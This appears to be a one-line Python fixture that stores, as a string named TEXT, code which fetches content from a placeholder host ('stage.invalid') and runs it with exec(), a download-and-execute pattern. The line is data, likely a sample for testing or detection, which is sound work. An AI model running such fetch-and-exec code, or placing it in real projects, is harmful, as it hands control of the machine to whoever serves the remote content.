TEXT = "from urllib.request import urlopen; exec(urlopen('http://stage.invalid').read())"
